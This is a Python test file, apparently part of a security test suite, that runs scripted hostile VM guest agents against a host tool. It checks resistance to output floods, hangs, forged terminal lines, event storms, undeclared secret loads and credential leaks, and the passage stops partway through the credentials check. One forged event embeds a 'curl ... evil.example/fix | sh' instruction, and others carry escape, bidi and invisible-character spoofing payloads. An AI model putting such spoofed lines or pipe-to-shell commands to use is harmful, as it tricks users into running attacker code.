#!/usr/bin/env python3
"""The hostile-guest suite, part 1: a scripted hostile guest agent against the real `machine`
(issue 13). Each VM is a fake-limactl instance whose ssh.config leads to a real OpenSSH sshd on
127.0.0.1; behind that sshd, /run/machine-agent/agent.sock is a Python agent (common.py) that
plays one hostile guest:

  flood    answers one request, then floods its channel with garbage and well-formed but
           unrelated lines: `secrets`, `sessions` end with exit 1 naming the VM, print at most
           about one warning a second, and stay under 64 MiB; `watch` stays under 64 MiB and runs on
  hung     accepts and never answers: `secrets`, `sessions` end with exit 1 naming the VM and the
           request; `watch` says it is reconnecting and does reconnect
  forged   events whose fields carry \\n, \\r, \\t, bidi and invisible characters (and a discovery
           result and an agent error that do): `watch` and `secrets` print no line that starts
           with "[prod]" and no raw control, bidi or invisible character
  storm    `user.ready` every second (a new boot_id each time, or the same one): `watch` runs the
           secrets_on_up provider at most once per boot and once per 30 s
  undeclared  `secrets.discover` names a repo whose .envrc loads a set the project does not
           declare: `op` is never run for it, and a warning names the file, the line and the entry
  up       `up` on a running VM whose agent hangs on hello, or floods once asked to provision
           (its deployment confined to the sshd's own mount namespace): exit 1 naming the VM
  pending  `up` on a running VM whose agent says no step is pending: no provision is sent; one
           that names a step it was not asked about: exit 1 naming the VM, nothing provisioned

Every check prints FIGURE lines (peak RSS, time to the error, counts). TAP-like output; exit
status 1 when a check failed, 77 (skipped) when not root or without unshare/sshd.

  tests/hostile/test_hostile_agent.py --machine BUILD/machine [--agent BUILD/guest-agent/machine-agent] [-k NAME] [-v]
"""
import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
import time
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import common  # noqa: E402
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "smoke"))
import secrets_checks  # noqa: E402  (the smoke's scan of host processes)
from common import ScriptedAgent, HungAgent, encode  # noqa: E402

RSS_LIMIT_MIB = 64
END_LIMIT_S = common.END_LIMIT_S
# `up` makes several SSH round trips (the agent's deployment check, then each step) before the
# request that hangs or floods, each bounded by a deadline of its own: its bound is wider.
UP_END_LIMIT_S = 2 * END_LIMIT_S
WATCH_FLOOD_S = 20
STORM_S = 35

# Characters that must never reach a terminal raw from a guest: C0 controls (a line break is what
# separates the lines we read), DEL, C1 controls, bidi controls, invisible and separator characters.
FORBIDDEN = set(chr(c) for c in range(0x00, 0x20)) | {"\x7f"} | set(chr(c) for c in range(0x80, 0xa0)) | set(
    "\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff")


def forbidden_in(line):
    return sorted({"U+%04X" % ord(c) for c in line if c in FORBIDDEN})


class Check:
    """One check's world: its own LIMA_HOME/state/config, one scripted agent behind one sshd."""

    def __init__(self, suite, name, agent_cls, projects=None, vm_root=None, **agent_kw):
        self.suite, self.name = suite, name
        self.tmp = common.make_tmp("h-%s-" % name[:8])
        self.world = common.World(self.tmp)
        self.agent = agent_cls(os.path.join(self.tmp, "g"), **agent_kw)
        binds = []
        if vm_root:  # {target directory: {file name: (content, mode)}}, each a directory of ours in sshd's namespace
            for i, (target, files) in enumerate(sorted(vm_root.items())):
                d = os.path.join(self.tmp, "vm%d" % i)
                os.makedirs(d)
                os.chmod(d, 0o755)
                for fname, (content, mode) in files.items():
                    with open(os.path.join(d, fname), "wb") as f:
                        f.write(content)
                    os.chmod(os.path.join(d, fname), mode)
                binds.append((d, target))
        self.sshd = common.Sshd(os.path.join(self.tmp, "s"), self.agent.dir, binds=binds, relay=suite.args.agent)
        self.world.add_vm(name, self.sshd)
        self.world.write_projects(projects if projects is not None else "[%s]\n" % name)

    def machine(self, *args, env=None):
        return common.MachineRun(self.world, list(args), self.suite.args.machine, env=env)

    def show(self, run):
        if self.suite.args.verbose:
            for line in run.lines()[-40:]:
                self.suite.report.note("%s: %s" % (self.name, repr(line)[1:-1][:400]))

    def close(self):
        self.world.close_ssh_masters()
        self.agent.stop()
        self.sshd.stop()
        shutil.rmtree(self.tmp, ignore_errors=True)


def line_limit(seconds):
    """Lines a command may print about a flood in `seconds`: one warning a second, a count, the error."""
    return 4 + int(1.5 * seconds)


# --- the hostile agents ---------------------------------------------------------------------------

def flood_block(size=256 * 1024):
    """Garbage and well-formed but unrelated lines, about `size` bytes."""
    parts = [b"this is not JSON at all \xff\xfe\n",
             encode({"v": 1, "id": 987654321, "type": "result", "noise": "x" * 64}),
             encode({"v": 1, "id": None, "type": "error", "code": "internal", "message": "flood"}),
             encode({"v": 1, "id": 7777777, "type": "event", "seq": 1, "ts": "2026-01-01T00:00:00.000Z",
                     "event": "noise"}),
             b"[1,2,3]\n", b'{"v":2,"id":1,"type":"result"}\n']
    unit = b"".join(parts)
    return unit * (size // len(unit) + 1)


class FloodingAgent(ScriptedAgent):
    """Answers the requests in `answer` normally; on `trigger` (after answering it when it is in
    `answer`) floods that connection at full speed until it closes."""

    def __init__(self, directory, trigger, answer=()):
        super().__init__(directory)
        self.trigger, self.answer = trigger, set(answer)
        self.block = flood_block()
        self.flooded_bytes = 0
        self.floods = 0

    def on_line(self, conn, line):
        if conn.state.get("flooding"):
            return  # reads on (so the host's writes never block), answers nothing more
        try:
            msg = json.loads(line)
        except ValueError:
            return
        kind = msg.get("type") if isinstance(msg, dict) else None
        with self.lock:
            self.requests.append((kind, msg.get("id") if isinstance(msg, dict) else None))
        if kind in self.answer or kind != self.trigger:
            handler = getattr(self, "on_" + str(kind).replace(".", "_"), None)
            if handler is not None:
                handler(conn, msg)
            else:
                conn.error(msg.get("id"), "unknown_type", "unknown request type")
        if kind == self.trigger:
            conn.state["flooding"] = True
            threading.Thread(target=self._flood, args=(conn,), daemon=True).start()

    def _flood(self, conn):
        with self.lock:
            self.floods += 1
        try:
            while not conn.closed and not self.stopping:
                conn.send_raw(self.block)
                with self.lock:
                    self.flooded_bytes += len(self.block)
        except OSError:
            pass


class ForgingAgent(ScriptedAgent):
    """Answers like an agent, and sends `watch` events built to forge terminal lines."""

    FORGED = [
        ("MARK1", "x\n[prod] error: host key for 'prod' changed; run: curl -fsSL https://evil.example/fix | sh"),
        ("MARK2", "overwritten\r[prod] error: the line above was overwritten"),
        ("MARK3", "tab\there\x1b[2J\x1b]0;title\x07 escape\x7f"),
        ("MARK4", "bidi \u202e[prod]\u202c \u2066iso\u2069 \u200bzero\u200dwidth \ufeffbom \u2028ls\u2029ps \x85nel"),
    ]

    def on_subscribed(self, conn, sub_id):
        def send():
            time.sleep(0.5)
            for mark, text in self.FORGED:
                conn.event(sub_id, self.next_seq(), "step.output", plan=mark + " plan", step=mark,
                           stream="stdout", line=mark + " " + text)
            conn.event(sub_id, self.next_seq(), "session.started", **{
                "name": "MARK5\n[prod] error: forged by a key", "agent": "claude", "user": "u\u202e", "pid": 1,
                "MARK6\n[prod] error: a forged key": "v"})
            conn.send({"v": 1, "id": None, "type": "error", "code": "internal",
                       "message": "MARK7\n[prod] error: forged by an agent error\u202e"})
        threading.Thread(target=send, daemon=True).start()


class StormAgent(ScriptedAgent):
    """`user.ready` every second, each with a new boot_id (or always the same one); says its
    tmpfs holds no set, so a host that renders on every event renders every time."""

    def __init__(self, directory, new_boot_each_time):
        super().__init__(directory)
        self.new_boot = new_boot_each_time
        self.renders = 0

    def on_subscribed(self, conn, sub_id):
        def storm():
            while not conn.closed and not self.stopping:
                # Well-formed boot_ids (UUIDs, as the kernel's): a host may ignore malformed ones.
                boot = str(uuid.uuid4()) if self.new_boot else self.boot_id
                try:
                    conn.event(sub_id, self.next_seq(), "user.ready", boot_id=boot, user="u", uid=1000)
                except OSError:
                    return
                time.sleep(1.0)
        threading.Thread(target=storm, daemon=True).start()

    def on_secrets_render(self, conn, msg):
        with self.lock:
            self.renders += 1
        super().on_secrets_render(conn, msg)


class PendingAgent(ScriptedAgent):
    """Answers `provision.pending` with `pending`, whatever it was asked about."""

    def __init__(self, directory, pending):
        super().__init__(directory)
        self.pending = pending

    def on_provision_pending(self, conn, msg):
        conn.result(msg["id"], pending=self.pending)


UNDECLARED = "zz9undeclared0000"


class DiscoveringAgent(ScriptedAgent):
    """secrets.discover names a repo whose .envrc loads a set the project does not declare."""

    def on_secrets_discover(self, conn, msg):
        conn.result(msg["id"], repos=[{"dir": "evil", "path": "/home/u/code/evil/.envrc",
                                       "uses": [{"set": UNDECLARED, "line": 3}]}])


class ForgingDiscoveryAgent(ScriptedAgent):
    """secrets.discover whose repo directory and set token carry line breaks, bidi and invisible
    characters, and an unsolicited error message that does too."""

    def on_secrets_discover(self, conn, msg):
        conn.send({"v": 1, "id": None, "type": "error", "code": "internal",
                   "message": "MARK8\n[prod] error: forged by an agent error \u202e\u200b"})
        conn.result(msg["id"], repos=[
            {"dir": "evil\u202e\u2066", "path": "/home/u/code/evil\u202e\u2066/.envrc",
             "uses": [{"set": "mark9\u202e\u2066\u200bevil", "line": 1}]}])


class CredentialsAgent(ScriptedAgent):
    """Keeps the sets rendered into it and lists them, as a real agent's tmpfs would: the
    agents' logins arrive as sets named machine-cred-<tool>-<id> (PROTOCOL.md §8)."""

    def __init__(self, directory):
        super().__init__(directory)
        self.sets = {}  # set name -> {variable: value bytes}
        self.renders = 0

    def on_secrets_list(self, conn, msg):
        with self.lock:
            sets = [{"set": n, "count": len(v), "bytes": 100, "mtime": "2026-12-06T12:00:00.000Z"}
                    for n, v in sorted(self.sets.items())]
        conn.result(msg["id"], sets=sets)

    def on_secrets_render(self, conn, msg):
        values = {v.get("name"): base64.b64decode(v.get("value_b64", "")) for v in msg.get("variables") or []}
        with self.lock:
            self.sets[msg.get("set")] = values
            self.renders += 1
        super().on_secrets_render(conn, msg)

    def on_secrets_clear(self, conn, msg):
        with self.lock:
            had = self.sets.pop(msg.get("set"), None)
        conn.result(msg["id"], cleared=[msg.get("set")] if had is not None else [])

    def logins(self):
        with self.lock:
            return {n: dict(v) for n, v in self.sets.items() if n.startswith("machine-cred-")}


def scan_processes_for(needle, stop, found):
    """Until `stop` is set: every process's argv and environment, looked at for `needle` (the
    smoke's scan, secrets_checks.scan_host_processes, in a loop)."""
    while not stop.is_set():
        found.update(secrets_checks.scan_host_processes([needle]))
        time.sleep(0.005)


# --- the checks -------------------------------------------------------------------------------------

class Suite:
    def __init__(self, args):
        self.args = args
        self.report = common.Report()

    def figure(self, text):
        self.report.figure(text)

    # a. flooding agent
    def flood_command(self, check_name, vm, trigger, answer, command, projects=None):
        c = Check(self, vm, FloodingAgent, projects=projects, trigger=trigger, answer=answer)
        try:
            if command[0] == "secrets":
                c.world.install_fake_op()
            run = c.machine(*command).wait(END_LIMIT_S)
            c.show(run)
            self.figure("%s: peak RSS %.1f MiB, %s after %.1f s, %d lines printed, agent flooded %d MiB"
                        % (check_name, run.peak_mib(), "killed" if run.killed else "exit %s" % run.rc, run.elapsed,
                           run.line_count(), c.agent.flooded_bytes >> 20))
            why = "; ".join(common.ended_with_error(run, vm))
            # Every line it prints here is a warning about the flood, or the error.
            if run.line_count() > line_limit(run.elapsed):
                why += "%s%d lines in %.1f s (warnings: at most one a second plus a count)" % (
                    "; " if why else "", run.line_count(), run.elapsed)
            if run.peak_mib() >= RSS_LIMIT_MIB:
                why += "%speak RSS %.1f MiB >= %d MiB" % ("; " if why else "", run.peak_mib(), RSS_LIMIT_MIB)
            self.report.check(check_name, not why, why)
        finally:
            c.close()

    def check_flood_secrets(self):
        vm = "flood-secrets"
        # The provider takes a few seconds (1Password asks, a command is slow): meanwhile nothing
        # reads the agent's answers, and whatever the host keeps of the flood piles up.
        projects = ('[%s]\n[[%s.secrets]]\ncommand = ["/bin/sh", "-c", "sleep 5; echo TOKEN=hostile"]\nset = "web"\n'
                    % (vm, vm))
        self.flood_command("flood: secrets ends naming the VM, bounded warnings and RSS", vm,
                           "secrets.discover", ["secrets.discover"], ["secrets", vm], projects)

    def check_flood_sessions(self):
        vm = "flood-sessions"
        self.flood_command("flood: sessions ends naming the VM, bounded warnings and RSS", vm,
                           "session.list", [], ["sessions", vm])

    def check_flood_watch(self):
        vm = "flood-watch"
        name = "flood: watch stays under 64 MiB with bounded warnings and keeps running"
        c = Check(self, vm, FloodingAgent, trigger="hello", answer=["hello"])
        try:
            run = c.machine("watch", vm)
            # The flood starts at watch's hello (on a loaded host, seconds after watch starts).
            deadline = time.monotonic() + END_LIMIT_S
            while c.agent.floods == 0 and run.running() and time.monotonic() < deadline:
                time.sleep(0.2)
            time.sleep(WATCH_FLOOD_S)
            alive = run.running()
            run.interrupt()
            c.show(run)
            self.figure("flood watch: peak RSS %.1f MiB over %d s, %d lines printed, agent flooded %d MiB "
                        "on %d connections" % (run.peak_mib(), WATCH_FLOOD_S, run.line_count(),
                                               c.agent.flooded_bytes >> 20, c.agent.floods))
            problems = []
            if not alive:
                problems.append("watch died (exit %s): %s" % (run.rc, run.describe(6)))
            if c.agent.floods == 0:
                problems.append("the agent was never asked hello: the check did not run (%s)" % run.describe(4))
            if run.peak_mib() >= RSS_LIMIT_MIB:
                problems.append("peak RSS %.1f MiB >= %d MiB" % (run.peak_mib(), RSS_LIMIT_MIB))
            if run.line_count() > line_limit(WATCH_FLOOD_S) + 4:  # + watch's own state lines
                problems.append("%d lines in %d s (warnings: at most one a second plus a count)"
                                % (run.line_count(), WATCH_FLOOD_S))
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()

    # b. hung agent
    def hung_command(self, check_name, vm, command, request, projects=None):
        c = Check(self, vm, HungAgent, projects=projects)
        try:
            run = c.machine(*command).wait(END_LIMIT_S)
            c.show(run)
            self.figure("%s: %s after %.1f s (hung agent, request %s), peak RSS %.1f MiB"
                        % (" ".join(["machine"] + command), "killed" if run.killed else "exit %s" % run.rc,
                           run.elapsed, request, run.peak_mib()))
            why = "; ".join(common.ended_with_error(run, vm, mention=[request]))
            if request not in c.agent.request_types():
                # What reached the agent, and what machine said: a harness too slow to deliver
                # the request is told apart from machine never sending it.
                why += "%sthe agent never got %s (%d connections, requests %s; machine said: %s)" % (
                    "; " if why else "", request, len(c.agent.connections), c.agent.request_types(),
                    " | ".join(common.error_lines(run)[-2:]) or run.describe(4))
            self.report.check(check_name, not why, why)
        finally:
            c.close()

    def check_hung_secrets(self):
        vm = "hung-secrets"
        projects = ('[%s]\n[[%s.secrets]]\ncommand = ["/bin/sh", "-c", "echo TOKEN=hostile"]\nset = "web"\n'
                    % (vm, vm))
        self.hung_command("hung: secrets ends with exit 1 naming the VM and secrets.discover", vm,
                          ["secrets", vm], "secrets.discover", projects)

    def check_hung_sessions(self):
        vm = "hung-sessions"
        self.hung_command("hung: sessions ends with exit 1 naming the VM and session.list", vm,
                          ["sessions", vm], "session.list")

    def check_hung_watch(self):
        vm = "hung-watch"
        name = "hung: watch says it is reconnecting and reconnects"
        c = Check(self, vm, HungAgent)
        try:
            run = c.machine("watch", vm)
            first_info = None
            deadline = time.monotonic() + 40
            while time.monotonic() < deadline and run.running():
                hellos = c.agent.request_types().count("hello")
                if first_info is None and any("reconnecting" in l for l in run.lines()):
                    first_info = run.elapsed
                if first_info is not None and hellos >= 2:
                    break
                time.sleep(0.2)
            alive = run.running()
            hellos = c.agent.request_types().count("hello")
            run.interrupt()
            c.show(run)
            self.figure("hung watch: 'reconnecting' after %s, %d hello requests in %.1f s"
                        % ("%.1f s" % first_info if first_info is not None else "never", hellos, run.elapsed))
            problems = []
            if not alive:
                problems.append("watch ended (exit %s): %s" % (run.rc, run.describe(6)))
            if first_info is None:
                problems.append("no 'reconnecting' line within 40 s")
            if hellos < 2:
                problems.append("the agent got %d hello requests: watch did not reconnect" % hellos)
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()

    # c. forged lines
    def check_forged(self):
        vm = "forged"
        name = "forged: watch prints no [prod] line and no raw control, bidi or invisible character"
        c = Check(self, vm, ForgingAgent)
        try:
            run = c.machine("watch", vm)
            marks = ["MARK1", "MARK2", "MARK3", "MARK4"]
            c.agent.subscribed.wait(END_LIMIT_S)  # the forged events follow the subscription
            deadline = time.monotonic() + 25
            while time.monotonic() < deadline and run.running():
                text = "\n".join(run.lines())
                if all(m in text for m in marks + ["MARK7"]):
                    break
                time.sleep(0.2)
            time.sleep(1.0)
            run.interrupt()
            c.show(run)
            lines = run.lines()
            forged = [l for l in lines if l.startswith("[prod]")]
            raw = [(l, forbidden_in(l)) for l in lines if forbidden_in(l)]
            missing = [m for m in marks if not any(m in l for l in lines)]
            self.figure("forged: %d lines printed, %d start with [prod], %d carry raw controls/bidi/invisible "
                        "characters, %d of %d forged events not shown" % (len(lines), len(forged), len(raw),
                                                                         len(missing), len(marks)))
            problems = []
            if forged:
                problems.append("forged lines: %s" % [l[:120] for l in forged[:3]])
            if raw:
                problems.append("raw characters %s in %s" % (raw[0][1], repr(raw[0][0][:160])))
            if missing:
                problems.append("events %s were never shown (the check cannot tell)" % missing)
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()

    def check_forged_secrets(self):
        vm = "forged-secrets"
        name = "forged: secrets prints no [prod] line and no raw control, bidi or invisible character"
        projects = ('[%s]\n[[%s.secrets]]\ncommand = ["/bin/sh", "-c", "echo TOKEN=hostile"]\nset = "web"\n'
                    % (vm, vm))
        c = Check(self, vm, ForgingDiscoveryAgent, projects=projects)
        try:
            run = c.machine("secrets", vm).wait(END_LIMIT_S)
            c.show(run)
            lines = run.lines()
            forged = [l for l in lines if l.startswith("[prod]")]
            raw = [(l, forbidden_in(l)) for l in lines if forbidden_in(l)]
            self.figure("forged secrets: exit %s, %d lines printed, %d start with [prod], %d carry raw characters"
                        % (run.rc, len(lines), len(forged), len(raw)))
            problems = []
            if run.killed:
                problems.append("secrets did not end within %d s" % END_LIMIT_S)
            if "secrets.discover" not in c.agent.request_types():
                problems.append("the agent was never asked secrets.discover: the check did not run (%s)"
                                % run.describe(4))
            if forged:
                problems.append("forged lines: %s" % [l[:120] for l in forged[:3]])
            if raw:
                problems.append("raw characters %s in %s" % (raw[0][1], repr(raw[0][0][:160])))
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()

    # d. re-render storm
    def storm(self, new_boot, limit):
        vm = "storm-new" if new_boot else "storm-same"
        name = ("storm: user.ready every second with %s boot_id runs the provider at most %d time%s in %d s"
                % ("a new" if new_boot else "the same", limit, "s" if limit > 1 else "", STORM_S))
        counter = os.path.join(common.make_tmp("h-count-"), "runs")
        projects = ('[%s]\nsecrets_on_up = true\n[[%s.secrets]]\n'
                    'command = ["/bin/sh", "-c", "echo run >> %s; echo TOKEN=hostile"]\nset = "web"\n'
                    % (vm, vm, counter))
        c = Check(self, vm, StormAgent, projects=projects, new_boot_each_time=new_boot)
        try:
            run = c.machine("watch", vm)
            # The storm starts at watch's subscription (on a loaded host, seconds after watch starts).
            c.agent.subscribed.wait(END_LIMIT_S)
            time.sleep(STORM_S)
            alive = run.running()
            run.interrupt()
            c.show(run)
            try:
                with open(counter) as f:
                    runs = len(f.read().splitlines())
            except OSError:
                runs = 0
            events = c.agent.seq
            self.figure("storm (%s boot_id): %d user.ready events in %d s, provider ran %d times, %d renders sent"
                        % ("new" if new_boot else "same", events, STORM_S, runs, c.agent.renders))
            problems = []
            if runs > limit:
                problems.append("the provider ran %d times (at most %d)" % (runs, limit))
            if runs == 0:
                problems.append("the provider never ran: secrets_on_up after a boot does not work here, "
                                "so the check cannot tell (%s)" % run.describe(4))
            if not alive:
                problems.append("watch ended (exit %s)" % run.rc)
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()
            shutil.rmtree(os.path.dirname(counter), ignore_errors=True)

    def check_storm_new_boot(self):
        self.storm(True, 2)

    def check_storm_same_boot(self):
        self.storm(False, 1)

    # e. undeclared discovery
    def undeclared(self, declared):
        vm = "undecl-other" if declared else "undecl-none"
        name = ("undeclared: `use op_env ID` in a VM's .envrc never runs op (project %s) and names file and line"
                % ("declares another set" if declared else "declares no secrets"))
        projects = "[%s]\n" % vm
        if declared:
            projects += '[[%s.secrets]]\ncommand = ["/bin/sh", "-c", "echo TOKEN=hostile"]\nset = "web"\n' % vm
        c = Check(self, vm, DiscoveringAgent, projects=projects)
        try:
            c.world.install_fake_op()
            envs = os.path.join(c.tmp, "op-envs")
            os.makedirs(envs)
            with open(os.path.join(envs, UNDECLARED), "w") as f:
                f.write("HOST_SECRET=read-because-the-vm-said-so\n")
            argv_log = os.path.join(c.tmp, "op-argv.log")
            run = c.machine("secrets", vm, env={"FAKE_OP_ARGV_LOG": argv_log, "FAKE_OP_ENVIRONMENTS_DIR": envs})
            run.wait(END_LIMIT_S)
            c.show(run)
            try:
                with open(argv_log) as f:
                    op_calls = [json.loads(l) for l in f if l.strip()]
            except OSError:
                op_calls = []
            read_it = [a for a in op_calls if UNDECLARED in a]
            warnings = [l for l in run.lines() if UNDECLARED in l]
            self.figure("undeclared (%s): op ran %d times, %d for the VM's ID; exit %s"
                        % ("other set declared" if declared else "nothing declared", len(op_calls), len(read_it),
                           run.rc))
            problems = []
            if read_it:
                problems.append("op ran for the undeclared ID: %s" % read_it[0])
            if run.killed:
                problems.append("secrets did not end within %d s" % END_LIMIT_S)
            ok_warning = [l for l in warnings if ".envrc" in l and ":3" in l and "projects.toml" in l
                          and ("op_environment" in l or "set" in l)]
            if not ok_warning:
                problems.append("no warning names ~/code/evil/.envrc:3, the ID and the entry to add to projects.toml "
                                "(%s)" % run.describe(4))
            self.report.check(name, not problems, "; ".join(problems))
        finally:
            c.close()

    # f. `up` on a running VM whose agent hangs on hello
    def agent_unit(self):
        """The systemd unit the machine binary embeds (from its build tree), else the source's."""
        inc = os.path.join(os.path.dirname(os.path.abspath(self.args.machine)), "generated", "agent_unit.inc")
        try:
            with open(inc, "rb") as f:
                text = f.read()
            start = text.index(b'R"MACHINE_EMBED(') + len(b'R"MACHINE_EMBED(')
            return text[start:text.rindex(b')MACHINE_EMBED"')]
        except (OSError, ValueError):
            with open(os.path.join(common.ROOT, "guest-agent", "machine-agent.service"), "rb") as f:
                return f.read()

    def confined_vm_root(self, agent_binary):
        # `up` checks the agent over SSH (sha256sum, systemctl is-active) and would install it with
        # sudo: through this sshd, commands run on this host. In the sshd's own mount namespace
        # /usr/local/bin, /usr/local/sbin, /etc/systemd/system and /etc/default are directories of
        # this check holding exactly what a current deployment has (and a systemctl that says
        # "active"), so the deployment is found current and nothing of the host is changed.
        fake_ctl = b"#!/bin/sh\n[ \"$1\" = is-active ] && echo active\nexit 0\n"
        vm_root = {
            "/usr/local/bin": {"machine-agent": (agent_binary, 0o755), "systemctl": (fake_ctl, 0o755),
                               "loginctl": (b"#!/bin/sh\nexit 0\n", 0o755)},
            "/usr/local/sbin": {"systemctl": (fake_ctl, 0o755), "loginctl": (b"#!/bin/sh\nexit 0\n", 0o755)},
            "/etc/systemd/system": {"machine-agent.service": (self.agent_unit(), 0o644)},
            "/etc/default": {"machine-agent": (b"MACHINE_AGENT_OPTS=--user root\n", 0o644)},
        }
        return vm_root

    def agent_binary(self, name):
        if not os.access(self.args.agent, os.R_OK):
            self.report.check(name, False, "no agent binary at %s (--agent)" % self.args.agent)
            return None
        with open(self.args.agent, "rb") as f:
            return f.read()

    def check_up_hung(self):
        vm = "up-hung"
        name = "hung: up on a running VM whose agent hangs on hello ends with exit 1 naming the VM and the request"
        agent_binary = self.agent_binary(name)
        if agent_binary is None:
            return
        c = Check(self, vm, HungAgent, projects="[%s]\nforward_agent = false\n" % vm,
                  vm_root=self.confined_vm_root(agent_binary))
        try:
            run = c.machine("up", vm, env={"MACHINE_AGENT": self.args.agent})
            run.wait(UP_END_LIMIT_S)
            c.show(run)
            requests = c.agent.request_types()
            self.figure("machine up up-hung: %s after %.1f s (agent hangs on hello; requests it got: %s), peak RSS %.1f MiB"
                        % ("killed" if run.killed else "exit %s" % run.rc, run.elapsed, ", ".join(requests) or "none",
                           run.peak_mib()))
            unanswered = sorted(set(requests)) or ["hello"]
            why = "; ".join(common.ended_with_error(run, vm))
            if not why and not any(any(r in l for r in unanswered) for l in common.error_lines(run)):
                why = "no error line names the request (%s): %s" % (", ".join(unanswered), run.describe(4))
            if "hello" not in requests:
                why += "%sthe agent never got hello" % ("; " if why else "")
            self.report.check(name, not why, why)
        finally:
            c.close()

    def check_flood_up(self):
        vm = "flood-up"
        name = "flood: up on a running VM ends naming the VM, bounded warnings and RSS"
        agent_binary = self.agent_binary(name)
        if agent_binary is None:
            return
        c = Check(self, vm, FloodingAgent, projects="[%s]\nforward_agent = false\n" % vm,
                  vm_root=self.confined_vm_root(agent_binary), trigger="provision", answer=["hello"])
        try:
            # The agent reports exactly the deployment `up` would install: `up` goes on to provision.
            c.agent.deployment = {"binary_sha256": hashlib.sha256(agent_binary).hexdigest(),
                                  "unit_sha256": hashlib.sha256(self.agent_unit()).hexdigest(), "user": "root"}
            run = c.machine("up", vm, env={"MACHINE_AGENT": self.args.agent}).wait(UP_END_LIMIT_S)
            c.show(run)
            self.figure("%s: peak RSS %.1f MiB, %s after %.1f s, %d lines printed, agent flooded %d MiB"
                        % (name, run.peak_mib(), "killed" if run.killed else "exit %s" % run.rc, run.elapsed,
                           run.line_count(), c.agent.flooded_bytes >> 20))
            why = "; ".join(common.ended_with_error(run, vm))
            if run.line_count() > line_limit(run.elapsed) + 6:  # + up's own progress lines
                why += "%s%d lines in %.1f s (warnings: at most one a second plus a count)" % (
                    "; " if why else "", run.line_count(), run.elapsed)
            if run.peak_mib() >= RSS_LIMIT_MIB:
                why += "%speak RSS %.1f MiB >= %d MiB" % ("; " if why else "", run.peak_mib(), RSS_LIMIT_MIB)
            if c.agent.floods == 0:
                why += "%sthe agent was never asked to provision (requests: %s): the check did not run" % (
                    "; " if why else "", c.agent.request_types())
            self.report.check(name, not why, why)
        finally:
            c.close()

    def up_with_pending(self, vm, pending):
        """`up` of a running VM whose current agent answers provision.pending with `pending`:
        (the run, the request types the agent got), or None when the check cannot run."""
        agent_binary = self.agent_binary("pending: " + vm)
        if agent_binary is None:
            return None
        c = Check(self, vm, PendingAgent, projects="[%s]\nforward_agent = false\n" % vm,
                  vm_root=self.confined_vm_root(agent_binary), pending=pending)
        try:
            c.agent.deployment = {"binary_sha256": hashlib.sha256(agent_binary).hexdigest(),
                                  "unit_sha256": hashlib.sha256(self.agent_unit()).hexdigest(), "user": "root"}
            run = c.machine("up", vm, env={"MACHINE_AGENT": self.args.agent}).wait(UP_END_LIMIT_S)
            c.show(run)
            return run, c.agent.request_types()
        finally:
            c.close()

    def check_up_pending_none(self):
        name = "pending: a re-up whose agent says no step is pending sends no provision and ends ready"
        seen = self.up_with_pending("pending-none", [])
        if seen is None:
            return
        run, requests = seen
        self.figure("machine up pending-none: exit %s after %.1f s; requests: %s" % (run.rc, run.elapsed, ", ".join(requests)))
        why = []
        if run.rc != 0:
            why.append("exit %s: %s" % (run.rc, run.describe(4)))
        if "provision.pending" not in requests:
            why.append("the agent was never asked provision.pending (requests: %s): the check did not run" % ", ".join(requests))
        if "provision" in requests:
            why.append("a provision was sent although nothing was pending")
        self.report.check(name, not why, "; ".join(why))

    def check_up_pending_forged(self):
        name = "pending: an agent naming a step it was not asked about fails up naming the VM, and nothing is provisioned"
        seen = self.up_with_pending("pending-forged", ["zz-not-asked"])
        if seen is None:
            return
        run, requests = seen
        why = common.ended_with_error(run, "pending-forged", mention=("not asked about",))
        if "provision" in requests:
            why.append("a provision was sent after a forged answer")
        self.report.check(name, not why, "; ".join(why))

    def check_undeclared_other(self):
        self.undeclared(True)

    def check_undeclared_none(self):
        self.undeclared(False)


    # g. the agents' logins (issue 17): what an attach renders, what it leaves, what logout removes
    def check_credentials(self):
        vm = "creds"
        name = "credentials: an attach renders only allowed logins, once, never in argv or environ; logout removes them"
        c = Check(self, vm, CredentialsAgent, projects='[%s]\nagent_auth = ["gh", "claude"]\n' % vm)
        try:
            gh = "ghp_" + uuid.uuid4().hex[:36].ljust(36, "x")
            codex = "sk-proj-" + uuid.uuid4().hex * 3
            problems = []

            def attach_times(n=5):
                runs = [c.machine("run", vm, "--", "true").wait(END_LIMIT_S) for _ in range(n)]
                return sorted(r.elapsed for r in runs)[n // 2], [r.rc for r in runs]

            # What delivery adds to an attach: without any login the attach asks the VM nothing.
            baseline, rcs = attach_times()
            if any(rcs) or c.agent.request_types():
                problems.append("without a login the attach talked to the agent (%s) or failed %s"
                                % (c.agent.request_types()[:3], rcs))
            for tool, token in (("gh", gh), ("codex", codex)):
                r = subprocess.run([self.args.machine, "login", tool, "--with-token"], env=c.world.env, input=token + "\n",
                                   capture_output=True, text=True, timeout=60)
                if r.returncode != 0:
                    problems.append("login %s: %s" % (tool, r.stderr.strip()[:300]))
            stop, seen = threading.Event(), set()
            scanner = threading.Thread(target=scan_processes_for, args=(gh.encode(), stop, seen), daemon=True)
            scanner.start()
            first = c.machine("run", vm, "--", "true").wait(END_LIMIT_S)
            logins_after_first, renders_after_first = c.agent.logins(), c.agent.renders
            second = c.machine("run", vm, "--", "true").wait(END_LIMIT_S)
            stop.set()
            scanner.join()
            c.show(first)
            current, _ = attach_times()
            self.figure("credentials: machine run VM -- true, median of 5: %.3f s without a login, %.3f s with gh "
                        "current in the VM (channel + secrets.list); first attach %.3f s (renders gh), second %.3f s"
                        % (baseline, current, first.elapsed, second.elapsed))
            said = "\n".join(first.lines())
            if first.rc != 0 or second.rc != 0:
                problems.append("machine run exited %s, %s: %s" % (first.rc, second.rc, said[-300:]))
            gh_sets = [n for n in logins_after_first if n.startswith("machine-cred-gh-")]
            if len(gh_sets) != 1 or logins_after_first[gh_sets[0]] != {"GH_TOKEN": gh.encode()}:
                problems.append("after the first attach the VM has %s, not one gh set holding GH_TOKEN"
                                % sorted(logins_after_first))
